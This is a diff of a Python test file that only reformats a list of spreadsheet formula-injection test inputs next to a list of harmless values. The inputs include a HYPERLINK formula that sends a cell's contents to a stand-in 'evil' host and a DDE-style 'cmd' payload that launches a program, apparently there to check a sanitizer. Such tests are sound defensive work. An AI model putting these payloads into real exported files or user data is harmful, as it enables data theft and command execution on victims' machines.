@@ -24,9 +24,22 @@ ROOT = Path(__file__).parents[3]
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"press")'
 WIDE = ["\uff1d1", "\uff0b1", "\uff0d1", "\uff20A"]
 FORMULAS = [
-    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\x00=1", "=1+1\n=2", "\tx", "-",
-    "=", FORMULA, *WIDE,
-]  # fmt: skip
+    "=1+1",
+    "+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\x00=1",
+    "=1+1\n=2",
+    "\tx",
+    "-",
+    "=",
+    FORMULA,
+    *WIDE,
+]
 HARMLESS = ["nbody", "a=b", "", "1", "0.5", "[{}]", "'=1", "x\n=1", "gnn-ga", "5-1", "Ω"]
 
 
